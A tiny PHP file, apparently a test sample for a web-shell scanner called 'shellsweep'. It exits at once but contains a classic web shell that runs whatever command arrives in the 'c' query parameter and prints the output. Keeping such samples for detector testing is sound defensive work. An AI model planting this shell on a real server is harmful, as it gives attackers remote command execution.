<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$h = popen($_GET['c'] . ' 2>&1', 'r');
while (!feof($h)) { echo fread($h, 1024); }
